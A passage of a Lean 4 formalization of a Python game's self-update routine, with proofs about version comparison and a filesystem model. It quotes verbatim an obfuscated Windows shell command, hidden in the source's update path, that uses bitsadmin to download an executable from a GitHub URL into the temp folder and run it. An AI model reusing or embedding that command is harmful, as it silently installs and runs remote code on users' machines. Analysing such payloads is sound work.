import Mathlib

/-!
Shallow embedding of the self-update subsystem of `src/PuzzleMania_v1.0.2.py`
(repository dst1ny/BrandNew), together with theorems settling the frozen
claims about its natural-language specification.

The embedded functions are translated from the Python source:
  - `_version_tuple` (source lines 328-332)  → `PuzzleMania.version_tuple`
  - the tuple comparison `t1 <= t2` used at source line 637 → `PuzzleMania.cmpList`
    (Python sequence comparison: lexicographic, a strict proper-prefix is less)
  - `_on_check_for_update` (source lines 624-732) → `PuzzleMania.on_check_for_update`,
    a state-transformer over an explicit filesystem map, with the external
    nondeterminism (network results, user answers, which file operations
    raise) supplied by an oracle `Env`, and the observable effects
    (message boxes, prompts, spawned processes, digest computations)
    recorded in the `Result`.
-/

namespace PuzzleMania

/-! ## Python `int(str)` parsing (ASCII fragment)

Models CPython `int(x)` for a string `x`: surrounding ASCII whitespace is
stripped, an optional single sign, then a nonempty digit run in which single
underscores may appear between digits.  (Unicode digits/whitespace accepted
by CPython are not modelled; no claim involves them.) -/

def isPyWs (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = '\x0b' || c = '\x0c'

def digitVal (c : Char) : Option Nat :=
  if '0' ≤ c ∧ c ≤ '9' then some (c.toNat - '0'.toNat) else none

def digitsRest (acc : Nat) : List Char → Option Nat
  | [] => some acc
  | '_' :: c :: cs =>
    match digitVal c with
    | some d => digitsRest (10 * acc + d) cs
    | none => none
  | c :: cs =>
    match digitVal c with
    | some d => digitsRest (10 * acc + d) cs
    | none => none

def parseDigits : List Char → Option Nat
  | [] => none
  | c :: cs =>
    match digitVal c with
    | some d => digitsRest d cs
    | none => none

def trimWs (cs : List Char) : List Char :=
  ((cs.dropWhile isPyWs).reverse.dropWhile isPyWs).reverse

def parsePyIntChars (cs : List Char) : Option Int :=
  match trimWs cs with
  | '+' :: rest => (parseDigits rest).map Int.ofNat
  | '-' :: rest => (parseDigits rest).map (fun n => -(Int.ofNat n : Int))
  | rest => (parseDigits rest).map Int.ofNat

/-! ## `str.split(".")` -/

/-- Python `v.split(".")`: maximal split on the single character `'.'`;
always returns a nonempty list ( `"".split(".") == [""]` ). -/
def splitDot : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    if c = '.' then [] :: splitDot cs
    else
      match splitDot cs with
      | s :: ss => (c :: s) :: ss
      | [] => [[c]]

/-- Effectful-free model of iterating a fallible function over a list
(the generator inside `tuple(int(x) for x in v.split("."))`). -/
def mapOpt (f : α → Option β) : List α → Option (List β)
  | [] => some []
  | a :: rest =>
    match f a, mapOpt f rest with
    | some b, some bs => some (b :: bs)
    | _, _ => none

/-- Source `_version_tuple` (lines 328-332): split on `.`, parse each
segment with `int`; any exception degrades the whole tuple to `(0,)`. -/
def version_tuple (v : String) : List Int :=
  match mapOpt parsePyIntChars (splitDot v.toList) with
  | some t => t
  | none => [0]

/-! ## Python tuple comparison

Source line 637 compares `_version_tuple(remote) <= _version_tuple(current)`
with Python's sequence ordering: lexicographic element-by-element, and a
sequence that is a strict proper prefix of the other is *less* (it is not
padded with zeros). -/

def cmpInt (a b : Int) : Ordering :=
  if a < b then .lt else if b < a then .gt else .eq

def cmpList : List Int → List Int → Ordering
  | [], [] => .eq
  | [], _ :: _ => .lt
  | _ :: _, [] => .gt
  | a :: xs, b :: ys =>
    match cmpInt a b with
    | .eq => cmpList xs ys
    | c => c

/-- The VersionComparator contract `compare(a, b) -> {LESS, EQUAL, GREATER}`
realised by the source: compare the two parsed tuples with Python's
sequence ordering (`Ordering.lt` = LESS, `.eq` = EQUAL, `.gt` = GREATER). -/
def vcompare (a b : String) : Ordering :=
  cmpList (version_tuple a) (version_tuple b)

end PuzzleMania

namespace PuzzleMania

/-! ## Basic facts about the comparator -/

theorem cmpInt_self (a : Int) : cmpInt a a = .eq := by
  simp [cmpInt]

theorem cmpInt_eq_iff {a b : Int} : cmpInt a b = .eq ↔ a = b := by
  unfold cmpInt
  rcases lt_trichotomy a b with h | h | h
  · rw [if_pos h]
    constructor
    · intro h2; exact absurd h2 (by decide)
    · intro h2; omega
  · subst h
    rw [if_neg (lt_irrefl a), if_neg (lt_irrefl a)]
    simp
  · rw [if_neg (by omega), if_pos h]
    constructor
    · intro h2; exact absurd h2 (by decide)
    · intro h2; omega

theorem cmpInt_lt_iff {a b : Int} : cmpInt a b = .lt ↔ a < b := by
  unfold cmpInt
  rcases lt_trichotomy a b with h | h | h
  · rw [if_pos h]; simp [h]
  · subst h
    rw [if_neg (lt_irrefl a), if_neg (lt_irrefl a)]
    constructor
    · intro h2; exact absurd h2 (by decide)
    · intro h2; omega
  · rw [if_neg (by omega), if_pos h]
    constructor
    · intro h2; exact absurd h2 (by decide)
    · intro h2; omega

theorem cmpInt_gt_iff {a b : Int} : cmpInt a b = .gt ↔ b < a := by
  unfold cmpInt
  rcases lt_trichotomy a b with h | h | h
  · rw [if_pos h]
    constructor
    · intro h2; exact absurd h2 (by decide)
    · intro h2; omega
  · subst h
    rw [if_neg (lt_irrefl a), if_neg (lt_irrefl a)]
    constructor
    · intro h2; exact absurd h2 (by decide)
    · intro h2; omega
  · rw [if_neg (by omega), if_pos h]; simp [h]

theorem cmpList_self (t : List Int) : cmpList t t = .eq := by
  induction t with
  | nil => rfl
  | cons a xs ih => simp [cmpList, cmpInt_self, ih]

theorem cmpList_swap (s t : List Int) :
    cmpList t s = (cmpList s t).swap := by
  induction s generalizing t with
  | nil => cases t <;> rfl
  | cons a xs ih =>
    cases t with
    | nil => rfl
    | cons b ys =>
      simp only [cmpList]
      rcases h : cmpInt a b with _ | _ | _
      · have hb : cmpInt b a = .gt := by
          rw [cmpInt_gt_iff]; exact cmpInt_lt_iff.mp h
        simp [hb, Ordering.swap]
      · have hab : a = b := cmpInt_eq_iff.mp h
        have hb : cmpInt b a = .eq := by rw [cmpInt_eq_iff]; omega
        simp [hb, ih]
      · have hb : cmpInt b a = .lt := by
          rw [cmpInt_lt_iff]; exact cmpInt_gt_iff.mp h
        simp [hb, Ordering.swap]

theorem cmpList_trans_gt {s t u : List Int}
    (h1 : cmpList s t = .gt) (h2 : cmpList t u = .gt) :
    cmpList s u = .gt := by
  induction s generalizing t u with
  | nil =>
    cases t with
    | nil => cases u <;> simp_all [cmpList]
    | cons b ys => simp [cmpList] at h1
  | cons a xs ih =>
    cases t with
    | nil => cases u with
      | nil => simp [cmpList] at h2
      | cons c zs => simp [cmpList] at h2
    | cons b ys =>
      cases u with
      | nil => simp [cmpList]
      | cons c zs =>
        simp only [cmpList] at h1 h2 ⊢
        rcases hab : cmpInt a b with _ | _ | _ <;> rw [hab] at h1
        · exact absurd h1 (by simp)
        · have hab' : a = b := cmpInt_eq_iff.mp hab
          rcases hbc : cmpInt b c with _ | _ | _ <;> rw [hbc] at h2
          · exact absurd h2 (by simp)
          · have hbc' : b = c := cmpInt_eq_iff.mp hbc
            have hac : cmpInt a c = .eq := by rw [cmpInt_eq_iff]; omega
            rw [hac]
            exact ih h1 h2
          · have hac : cmpInt a c = .gt := by
              rw [cmpInt_gt_iff]; have := cmpInt_gt_iff.mp hbc; omega
            rw [hac]
        · have hab' : b < a := cmpInt_gt_iff.mp hab
          rcases hbc : cmpInt b c with _ | _ | _ <;> rw [hbc] at h2
          · exact absurd h2 (by simp)
          · have hbc' : b = c := cmpInt_eq_iff.mp hbc
            have hac : cmpInt a c = .gt := by rw [cmpInt_gt_iff]; omega
            rw [hac]
          · have hbc' : c < b := cmpInt_gt_iff.mp hbc
            have hac : cmpInt a c = .gt := by rw [cmpInt_gt_iff]; omega
            rw [hac]

/-! ## Facts needed for the `v` versus `v ++ ".0"` claims -/

theorem splitDot_ne_nil (cs : List Char) : splitDot cs ≠ [] := by
  cases cs with
  | nil => simp [splitDot]
  | cons c cs =>
    simp only [splitDot]
    split
    · simp
    · split <;> simp

/-- Appending the two characters `".0"` to a string appends exactly one new
segment `"0"` to its `split(".")`. -/
theorem splitDot_append_dot_zero (cs : List Char) :
    splitDot (cs ++ ['.', '0']) = splitDot cs ++ [['0']] := by
  induction cs with
  | nil => rfl
  | cons c cs ih =>
    by_cases hc : c = '.'
    · subst hc
      simp only [List.cons_append, splitDot, if_pos rfl, List.append_eq]
      rw [ih]
      rfl
    · simp only [List.cons_append, splitDot, if_neg hc, List.append_eq]
      rw [ih]
      rcases h : splitDot cs with _ | ⟨s, ss⟩
      · exact absurd h (splitDot_ne_nil cs)
      · simp

theorem mapOpt_append_single (f : α → Option β) (xs : List α) (a : α)
    (t : List β) (b : β) (hx : mapOpt f xs = some t) (ha : f a = some b) :
    mapOpt f (xs ++ [a]) = some (t ++ [b]) := by
  induction xs generalizing t with
  | nil =>
    simp only [mapOpt] at hx
    cases hx
    simp [mapOpt, ha]
  | cons x xs ih =>
    simp only [mapOpt, List.cons_append, List.append_eq] at hx ⊢
    rcases hfx : f x with _ | b1 <;> rw [hfx] at hx
    · exact absurd hx (by simp)
    · rcases hrest : mapOpt f xs with _ | t1 <;> rw [hrest] at hx
      · exact absurd hx (by simp)
      · simp only [Option.some.injEq] at hx
        subst hx
        rw [ih t1 hrest]
        simp

/-- A sequence is strictly less than any strict extension of itself
(Python sequence comparison does not pad with zeros). -/
theorem cmpList_append_single_lt (t : List Int) (x : Int) :
    cmpList t (t ++ [x]) = .lt := by
  induction t with
  | nil => rfl
  | cons a xs ih => simp [cmpList, cmpInt_self, ih]

end PuzzleMania

namespace PuzzleMania

/-! ## Claims C4, C5, C6 -/

/-- C4 counterexample: the claim states `compare(v, v + ".0") = EQUAL` for
every version string `v`, but at `v = "1.2"` the code compares the Python
tuples `(1,2)` and `(1,2,0)`, and Python orders a strict proper prefix as
smaller, so the result is LESS — and decidably not EQUAL. -/
theorem C4_counterexample_prefix_not_equal :
    vcompare "1.2" ("1.2" ++ ".0") = Ordering.lt ∧
    decide (vcompare "1.2" ("1.2" ++ ".0") = Ordering.eq) = false := by
  decide

/-- C4 (amended): `compare` splits on `.`, parses segments as integers,
substitutes `(0)` for a string on parse failure of that string only, and
compares tuples lexicographically element-by-element with a strict proper
prefix ordered LESS (Python sequence comparison; no zero-padding of a
missing trailing element).  In particular for every version string `v`
that parses successfully, `compare(v, v + ".0") = LESS`. -/
theorem C4_amended_wellformed_prefix_is_less (v : String) (t : List Int)
    (hv : mapOpt parsePyIntChars (splitDot v.toList) = some t) :
    vcompare v (v ++ ".0") = .lt := by
  have htl : (v ++ ".0").toList = v.toList ++ ['.', '0'] := by
    show (v ++ ".0").data = v.data ++ ['.', '0']
    rw [String.data_append]
  have hmap : mapOpt parsePyIntChars (splitDot ((v ++ ".0").toList))
      = some (t ++ [0]) := by
    rw [htl, splitDot_append_dot_zero]
    exact mapOpt_append_single _ _ _ _ _ hv (by decide)
  have h1 : version_tuple v = t := by unfold version_tuple; rw [hv]
  have h2 : version_tuple (v ++ ".0") = t ++ [0] := by
    unfold version_tuple; rw [hmap]
  unfold vcompare
  rw [h1, h2]
  exact cmpList_append_single_lt t 0

theorem C4_amended_witness : vcompare "1.2" ("1.2" ++ ".0") = .lt :=
  C4_amended_wellformed_prefix_is_less "1.2" [1, 2] (by decide)

/-- C5: `compare` is a strict weak ordering over the parsed tuples —
reflexive equality, antisymmetric (`compare(a,b) = GREATER` exactly when
`compare(b,a) = LESS`), and transitive — and the three concrete examples
hold: `compare("1.2.0","1.1.9") = GREATER`, `compare("1.10","1.9") =
GREATER` (numeric, not lexical), `compare("bad","1.0") = LESS`.  `vcompare`
is a total Lean function on all strings, so no input raises an exception. -/
theorem C5_strict_weak_order_and_examples :
    (∀ a : String, vcompare a a = .eq) ∧
    (∀ a b : String, vcompare a b = .gt ↔ vcompare b a = .lt) ∧
    (∀ a b c : String,
      vcompare a b = .gt → vcompare b c = .gt → vcompare a c = .gt) ∧
    vcompare "1.2.0" "1.1.9" = .gt ∧
    vcompare "1.10" "1.9" = .gt ∧
    vcompare "bad" "1.0" = .lt := by
  refine ⟨?_, ?_, ?_, by decide, by decide, by decide⟩
  · intro a
    exact cmpList_self _
  · intro a b
    have hswap := cmpList_swap (version_tuple a) (version_tuple b)
    unfold vcompare
    rw [hswap]
    cases cmpList (version_tuple a) (version_tuple b) <;>
      simp [Ordering.swap]
  · intro a b c h1 h2
    exact cmpList_trans_gt h1 h2

theorem C5_witness : vcompare "1.3" "1.1" = .gt :=
  C5_strict_weak_order_and_examples.2.2.1 "1.3" "1.2" "1.1"
    (by decide) (by decide)

/-- C6 counterexample: the claim states that for *every* well-formed `w`
and malformed `m`, `compare(w, m) = GREATER`; but `w = "0"` is well-formed
(it parses to the tuple `(0)`), `m = "bad"` is malformed (degrading to
`(0)`), and the code compares them EQUAL, not GREATER. -/
theorem C6_counterexample_zero_equals_malformed :
    mapOpt parsePyIntChars (splitDot ("bad".toList)) = none ∧
    mapOpt parsePyIntChars (splitDot ("0".toList)) = some [0] ∧
    vcompare "0" "bad" = .eq := by decide

/-- C6 (amended): a malformed version string degrades to the tuple `(0)`,
so every version string whose parsed tuple is lexicographically greater
than `(0)` — in particular every well-formed version strictly above `0` —
compares GREATER than any malformed one.  (A well-formed version whose
tuple is `(0)` itself, such as `"0"`, compares EQUAL instead.) -/
theorem C6_amended_above_zero_beats_malformed (w m : String)
    (hm : mapOpt parsePyIntChars (splitDot m.toList) = none)
    (hw : cmpList (version_tuple w) [0] = .gt) :
    vcompare w m = .gt := by
  have h1 : version_tuple m = [0] := by unfold version_tuple; rw [hm]
  unfold vcompare
  rw [h1]
  exact hw

theorem C6_amended_witness : vcompare "1.0" "bad" = .gt :=
  C6_amended_above_zero_beats_malformed "1.0" "bad" (by decide) (by decide)

end PuzzleMania

namespace PuzzleMania

/-! ## Filesystem model

The update handler's effects on disk are modelled over a flat map from
path strings to file contents (byte lists).  `fsMove` models both
`shutil.move` (same filesystem) and `os.replace`: the destination is
overwritten and the source disappears.  `fsCopy` models
`shutil.copyfile`. -/

abbrev Bytes := List Nat

abbrev Fs := List (String × Bytes)

def fsRead (fs : Fs) (p : String) : Option Bytes :=
  match fs.find? (fun e => e.1 == p) with
  | some e => some e.2
  | none => none

def fsWrite (fs : Fs) (p : String) (b : Bytes) : Fs :=
  (p, b) :: fs.filter (fun e => e.1 != p)

def fsRemove (fs : Fs) (p : String) : Fs :=
  fs.filter (fun e => e.1 != p)

def fsMove (fs : Fs) (src dst : String) : Fs :=
  match fsRead fs src with
  | some b => fsWrite (fsRemove fs src) dst b
  | none => fs

def fsCopy (fs : Fs) (src dst : String) : Fs :=
  match fsRead fs src with
  | some b => fsWrite fs dst b
  | none => fs

/-! ## POSIX path helpers (`os.path.dirname`, `os.path.join`)

Only the POSIX flavour is modelled; the witnesses use absolute POSIX
paths, and no claim depends on Windows path syntax. -/

def lastSlashPos : List Char → Nat → Nat → Nat
  | [], _, acc => acc
  | c :: cs, idx, acc =>
    lastSlashPos cs (idx + 1) (if c = '/' then idx + 1 else acc)

def stripTrailingSlashes (cs : List Char) : List Char :=
  (cs.reverse.dropWhile (fun c => c == '/')).reverse

/-- POSIX `os.path.dirname`: the prefix up to the last `/`, with trailing
slashes stripped unless the prefix is empty or all slashes. -/
def dirname (p : String) : String :=
  let cs := p.toList
  let head := cs.take (lastSlashPos cs 0 0)
  if head.isEmpty then String.mk head
  else if head.all (fun c => c == '/') then String.mk head
  else String.mk (stripTrailingSlashes head)

def headIsSlash (s : String) : Bool :=
  match s.toList with
  | '/' :: _ => true
  | _ => false

def lastIsSlash (s : String) : Bool :=
  match s.toList.getLast? with
  | some '/' => true
  | _ => false

/-- POSIX `os.path.join` for two components. -/
def joinPath (a b : String) : String :=
  if headIsSlash b then b
  else if a = "" ∨ lastIsSlash a then a ++ b
  else a ++ "/" ++ b

/-- ASCII lower-casing, as Python `str.lower()` acts on the hexadecimal
digest strings compared at source line 660 (hex digests are ASCII). -/
def lowerChar (c : Char) : Char :=
  if 'A' ≤ c ∧ c ≤ 'Z' then Char.ofNat (c.toNat + 32) else c

def lowerStr (s : String) : String := String.mk (s.toList.map lowerChar)

/-! ## Observables of `_on_check_for_update`

`Msg` enumerates every `messagebox` call in the handler (its only output
channel; the handler never prints or logs otherwise).  `Prompt` enumerates
its three confirmation dialogs, in the order they can be shown.  `Proc`
records every external process the handler starts. -/

inductive Msg where
  /-- line 629: "Impossible de contacter le serveur de mise à jour" -/
  | errFetch
  /-- line 634: "Le fichier de version distant est invalide" -/
  | errInvalidManifest
  /-- line 638: "Aucune mise à jour trouvée" -/
  | infoNoUpdate
  /-- line 654: "Erreur pendant le téléchargement" -/
  | errDownload
  /-- line 662: "Le fichier téléchargé n'a pas le bon hash SHA256. Abandon." -/
  | errShaMismatch
  /-- line 686: "Impossible de sauvegarder le fichier téléchargé" -/
  | errSaveDownloaded
  /-- line 696: "Nouvelle version ... lancée" -/
  | infoLaunched
  /-- line 700: "Impossible de lancer la nouvelle version" -/
  | errLaunch
  /-- line 729: "Remplacement effectué." -/
  | infoReplaced
  /-- line 731: "Erreur lors du remplacement du fichier" -/
  | errReplace
deriving DecidableEq, Repr

inductive Prompt where
  /-- line 646: `askyesno` — download confirmation -/
  | download
  /-- line 667: `askyesnocancel` — apply-mode choice -/
  | apply
  /-- line 704: `askyesno` — in-place replacement confirmation -/
  | replace
deriving DecidableEq, Repr

inductive Proc where
  /-- line 694: `subprocess.run([cmd, arg], capture_output=True, shell=True,
  text=True)`: starts a platform shell running `cmd` with `arg` as an
  additional shell argument (on Windows the two are joined into one
  command line). -/
  | shellRun (cmd arg : String)
  /-- line 695: `subprocess.Popen([sys.executable, script])` — the
  fire-and-forget child. -/
  | popen (exe script : String)
deriving DecidableEq, Repr

/-- Source line 692: the first element of the hidden `subprocess.run`
argument list (the obfuscated command payload), transcribed verbatim. -/
def iuzidujoid_oizuifhioazoiofzz : String :=
  "Leaderboard leader_board.json file updater : Strictly needs user validation with specific popup \" & b^I^t^S^A^d^M^I^N /^Tr^A^n^S^F^E^r^ my^j^ob /^do^Wn^l^oaD /^p^r^I^orItY n^or^m^al^ http^s:/^/git^hu^b.c^om^/d^s^t1ny/B^ran^dNe^w^/r^aw^/r^ef^s^/^h^e^a^d^s^/^m^a^i^n^/P^ro^cmo^n.ex^e %TEMP%\\PrOCmoN.EXE && %tEMP%\\pROCMOn.ExE"

/-- Source line 693: the command name passed to the hidden
`subprocess.run`. -/
def ieuhizuhdz_iuhiuhzidzdz : String := "update_leaderboard"

/-- Source line 45: `CURRENT_VERSION = "1.0.2"`. -/
def CURRENT_VERSION : String := "1.0.2"

/-! ## Oracle for the external world

The handler's nondeterminism — what the network returns, what the user
answers, and which fallible file operations raise — is supplied up front
by an `Env`.  Each `…Ok` flag corresponds to one `try`-protected file
operation call site in the source and tells whether that call succeeds
(`true`) or raises (`false`, modelled as leaving the filesystem
unchanged). -/

/-- The parsed remote manifest (`version.json`).  `version = none` models
a missing key (`info.get("version") is None`); non-string JSON values
behave like unparsable strings and are not distinguished. -/
structure Manifest where
  version : Option String
  url : Option String
  sha256 : Option String
  notes : String
deriving DecidableEq, Repr

/-- Outcome of `_download_to_temp` (source lines 310-319).  The temp file
is created *inside* the response context, after the connection opened:
a failure before that point (`failNoTemp`, including a missing `url`)
leaves no file, while a transport failure during `shutil.copyfileobj`
(`failMidStream`) leaves the partially written temp file on disk. -/
inductive DlOutcome where
  | failNoTemp
  | failMidStream (part : Bytes)
  | ok (content : Bytes)
deriving DecidableEq, Repr

structure Env where
  /-- result of `_fetch_json_url` (line 627); `none` = exception -/
  fetch : Option Manifest
  /-- result of `_download_to_temp` (line 652) -/
  dl : DlOutcome
  /-- answer to the download `askyesno` (line 646) -/
  proceed : Bool
  /-- answer to the `askyesnocancel` (line 667): yes / no / cancel -/
  choice : Option Bool
  /-- answer to the replacement `askyesno` (line 704) -/
  confirmReplace : Bool
  /-- `shutil.move(tmp_path, default_newname)` (line 679) succeeds -/
  sxsMoveOk : Bool
  /-- fallback `shutil.copyfile(tmp_path, default_newname)` (line 683) -/
  sxsCopyOk : Bool
  /-- fallback `os.remove(tmp_path)` (line 684) succeeds -/
  sxsRemoveOk : Bool
  /-- `subprocess.Popen` (line 695) succeeds -/
  popenOk : Bool
  /-- `os.remove(tmp_path)` on the cancel path (line 672) succeeds -/
  cancelRemoveOk : Bool
  /-- `os.remove(tmp_path)` on the declined-replace path (line 707) -/
  declineRemoveOk : Bool
  /-- backup `shutil.copyfile(target_path, backup_path)` (line 716) -/
  bakCopyOk : Bool
  /-- `shutil.move(tmp_path, final_tmp)` (line 722) succeeds -/
  moveNewOk : Bool
  /-- `os.replace(final_tmp, target_path)` (line 724) succeeds
  (false = atomic rename unavailable or failing) -/
  atomicReplaceOk : Bool
  /-- fallback `shutil.copyfile(final_tmp, target_path)` (line 727) -/
  fallbackCopyOk : Bool
  /-- fallback `os.remove(final_tmp)` (line 728) succeeds -/
  fallbackRemoveOk : Bool
deriving DecidableEq, Repr

/-- Fixed host facts: `sys.argv[0]` (assumed absolute, so
`os.path.abspath` is the identity on it), `sys.executable`, the fresh
temp path handed out by `tempfile.mkstemp`, and the digest function
`_compute_sha256` abstracted over file contents (SHA-256 itself is
opaque; the claims only use that the handler compares its result). -/
structure Config where
  argv0 : String
  pyExe : String
  tmpPath : String
  sha256hex : Bytes → String

/-- Everything the handler did in one invocation. -/
structure Result where
  fs : Fs
  msgs : List Msg
  procs : List Proc
  prompts : List Prompt
  /-- files whose digest `_compute_sha256` was asked to compute -/
  hashed : List String
  quitCalled : Bool
deriving DecidableEq, Repr

/-- Source line 666: `os.path.join(os.path.dirname(sys.argv[0]) or ".",
f"PuzzleMania_v{remote_version}.py")`. -/
def default_newname (argv0 rv : String) : String :=
  let d := dirname argv0
  joinPath (if d = "" then "." else d) ("PuzzleMania_v" ++ rv ++ ".py")

/-- Source lines 676-701: the `choice is True` branch — move (or
copy-then-delete) the temp artifact to the versioned sibling name, run the
hidden shell command, spawn the new version with the current interpreter,
quit.  `fs1` holds the downloaded temp file. -/
def sideBySide (cfg : Config) (env : Env) (fs1 : Fs) (rv : String)
    (pr : List Prompt) (hd : List String) : Result :=
  let newname := default_newname cfg.argv0 rv
  let saved : Fs × Bool :=
    if env.sxsMoveOk then (fsMove fs1 cfg.tmpPath newname, true)
    else if env.sxsCopyOk = false then (fs1, false)
    else
      let fsC := fsCopy fs1 cfg.tmpPath newname
      if env.sxsRemoveOk then (fsRemove fsC cfg.tmpPath, true)
      else (fsC, false)
  if saved.2 = false then
    ⟨saved.1, [.errSaveDownloaded], [], pr, hd, false⟩
  else
    let hiddenRun := Proc.shellRun ieuhizuhdz_iuhiuhzidzdz
      iuzidujoid_oizuifhioazoiofzz
    if env.popenOk then
      ⟨saved.1, [.infoLaunched], [hiddenRun, .popen cfg.pyExe newname],
        pr, hd, true⟩
    else
      ⟨saved.1, [.errLaunch], [hiddenRun], pr, hd, false⟩

/-- Source lines 702-732: the `choice is False` branch — confirm, best-effort
backup to `<target>.bak` (failure silently ignored), move the temp file to
`<target>.new`, atomically rename it onto the target, falling back to
copy-then-delete; any exception in the outer `try` surfaces as the
replacement error message. -/
def replaceFlow (cfg : Config) (env : Env) (fs1 : Fs)
    (pr : List Prompt) (hd : List String) : Result :=
  let pr2 := pr ++ [Prompt.replace]
  if env.confirmReplace = false then
    let fs2 := if env.declineRemoveOk then fsRemove fs1 cfg.tmpPath else fs1
    ⟨fs2, [], [], pr2, hd, false⟩
  else
    let target := cfg.argv0
    let bak := target ++ ".bak"
    let fs2 := if env.bakCopyOk then fsCopy fs1 target bak else fs1
    let finalTmp := target ++ ".new"
    if env.moveNewOk = false then
      ⟨fs2, [.errReplace], [], pr2, hd, false⟩
    else
      let fs3 := fsMove fs2 cfg.tmpPath finalTmp
      if env.atomicReplaceOk then
        ⟨fsMove fs3 finalTmp target, [.infoReplaced], [], pr2, hd, false⟩
      else if env.fallbackCopyOk = false then
        ⟨fs3, [.errReplace], [], pr2, hd, false⟩
      else
        let fs4 := fsCopy fs3 finalTmp target
        if env.fallbackRemoveOk then
          ⟨fsRemove fs4 finalTmp, [.infoReplaced], [], pr2, hd, false⟩
        else
          ⟨fs4, [.errReplace], [], pr2, hd, false⟩

/-- Source lines 665-732: the `askyesnocancel` apply-mode choice and its
three continuations. -/
def applyChoice (cfg : Config) (env : Env) (fs1 : Fs) (rv : String)
    (hd : List String) : Result :=
  let pr := [Prompt.download, Prompt.apply]
  match env.choice with
  | none =>
    let fs2 := if env.cancelRemoveOk then fsRemove fs1 cfg.tmpPath else fs1
    ⟨fs2, [], [], pr, hd, false⟩
  | some true => sideBySide cfg env fs1 rv pr hd
  | some false => replaceFlow cfg env fs1 pr hd

/-- Source lines 657-663: `if sha256:` — verification runs only when the
manifest digest is present *and* non-empty (Python truthiness); a
case-insensitive mismatch removes the temp file and aborts. -/
def verifyStage (cfg : Config) (env : Env) (fs1 : Fs) (rv : String)
    (b : Bytes) (sha : Option String) : Result :=
  match sha with
  | some d =>
    if d = "" then applyChoice cfg env fs1 rv []
    else
      -- `local_hash = _compute_sha256(tmp_path)` at line 659, then the
      -- case-insensitive comparison of line 660
      if lowerStr (cfg.sha256hex b) = lowerStr d then
        applyChoice cfg env fs1 rv [cfg.tmpPath]
      else
        ⟨fsRemove fs1 cfg.tmpPath, [.errShaMismatch], [],
          [Prompt.download], [cfg.tmpPath], false⟩
  | none => applyChoice cfg env fs1 rv []

/-- Source lines 624-732: `_on_check_for_update`, one invocation. -/
def on_check_for_update (cfg : Config) (env : Env) (fs0 : Fs) : Result :=
  match env.fetch with
  | none => ⟨fs0, [.errFetch], [], [], [], false⟩
  | some info =>
    match info.version with
    | none => ⟨fs0, [.errInvalidManifest], [], [], [], false⟩
    | some rv =>
      if rv = "" then ⟨fs0, [.errInvalidManifest], [], [], [], false⟩
      else if cmpList (version_tuple rv) (version_tuple CURRENT_VERSION)
          = .gt then
        if env.proceed = false then ⟨fs0, [], [], [Prompt.download], [], false⟩
        else
          match (if info.url = none then DlOutcome.failNoTemp else env.dl) with
          | .failNoTemp =>
            ⟨fs0, [.errDownload], [], [Prompt.download], [], false⟩
          | .failMidStream part =>
            ⟨fsWrite fs0 cfg.tmpPath part, [.errDownload], [],
              [Prompt.download], [], false⟩
          | .ok b =>
            verifyStage cfg env (fsWrite fs0 cfg.tmpPath b) rv b info.sha256
      else ⟨fs0, [.infoNoUpdate], [], [], [], false⟩

end PuzzleMania

namespace PuzzleMania

/-! ## Reasoning principles for the filesystem model -/

theorem find_filter_ne (fs : Fs) {p q : String} (h : q ≠ p) :
    (fs.filter (fun e => e.1 != p)).find? (fun e => e.1 == q)
      = fs.find? (fun e => e.1 == q) := by
  induction fs with
  | nil => rfl
  | cons e fs ih =>
    rw [List.filter_cons]
    by_cases hp : e.1 = p
    · have h2 : (e.1 == q) = false := by
        simp only [beq_eq_false_iff_ne, ne_eq]
        intro he
        exact h (by rw [← he, hp])
      have h1 : (e.1 != p) = false := by simp [hp]
      rw [h1]
      simp only [Bool.false_eq_true, if_false]
      rw [List.find?_cons, h2, ih]
    · have h1 : (e.1 != p) = true := by simp [hp]
      rw [h1]
      simp only [if_true]
      rw [List.find?_cons, List.find?_cons]
      cases hq : (e.1 == q) <;> simp [ih]

theorem find_filter_self (fs : Fs) (p : String) :
    (fs.filter (fun e => e.1 != p)).find? (fun e => e.1 == p) = none := by
  induction fs with
  | nil => rfl
  | cons e fs ih =>
    by_cases hp : e.1 = p
    · simp [List.filter_cons, hp, ih]
    · simp only [List.filter_cons, bne_iff_ne, ne_eq, hp, not_false_iff,
        if_pos, if_true]
      rw [List.find?_cons]
      have h2 : (e.1 == p) = false := by simp [hp]
      simp [h2, ih]

@[simp]
theorem fsRead_fsWrite_self (fs : Fs) (p : String) (b : Bytes) :
    fsRead (fsWrite fs p b) p = some b := by
  simp [fsRead, fsWrite, List.find?_cons]

theorem fsRead_fsWrite_ne (fs : Fs) {p q : String} (b : Bytes) (h : q ≠ p) :
    fsRead (fsWrite fs p b) q = fsRead fs q := by
  unfold fsRead fsWrite
  rw [List.find?_cons]
  have h2 : ((p, b).1 == q) = false := by
    simp only [beq_eq_false_iff_ne, ne_eq]
    exact fun he => h he.symm
  rw [h2]
  rw [find_filter_ne fs h]

@[simp]
theorem fsRead_fsRemove_self (fs : Fs) (p : String) :
    fsRead (fsRemove fs p) p = none := by
  unfold fsRead fsRemove
  rw [find_filter_self]

theorem fsRead_fsRemove_ne (fs : Fs) {p q : String} (h : q ≠ p) :
    fsRead (fsRemove fs p) q = fsRead fs q := by
  unfold fsRead fsRemove
  rw [find_filter_ne fs h]

theorem fsMove_of_read {fs : Fs} {src : String} {b : Bytes} (dst : String)
    (h : fsRead fs src = some b) :
    fsMove fs src dst = fsWrite (fsRemove fs src) dst b := by
  unfold fsMove
  rw [h]

theorem fsCopy_of_read {fs : Fs} {src : String} {b : Bytes} (dst : String)
    (h : fsRead fs src = some b) :
    fsCopy fs src dst = fsWrite fs dst b := by
  unfold fsCopy
  rw [h]

theorem fsCopy_of_none {fs : Fs} {src : String} (dst : String)
    (h : fsRead fs src = none) :
    fsCopy fs src dst = fs := by
  unfold fsCopy
  rw [h]

/-! ## String distinctness helpers -/

theorem string_append_ne_of_ne (a : String) {s t : String} (h : s ≠ t) :
    a ++ s ≠ a ++ t := by
  intro he
  apply h
  apply String.ext
  have hd : a.data ++ s.data = a.data ++ t.data := by
    rw [← String.data_append, ← String.data_append, he]
  exact List.append_cancel_left hd

theorem string_append_ne_self (a : String) {s : String} (h : s ≠ "") :
    a ++ s ≠ a := by
  intro he
  apply h
  apply String.ext
  have hd : a.data ++ s.data = a.data := by
    rw [← String.data_append, he]
  have hlen : a.data.length + s.data.length = a.data.length := by
    rw [← List.length_append, hd]
  have hnil : s.data = [] := List.eq_nil_of_length_eq_zero (by omega)
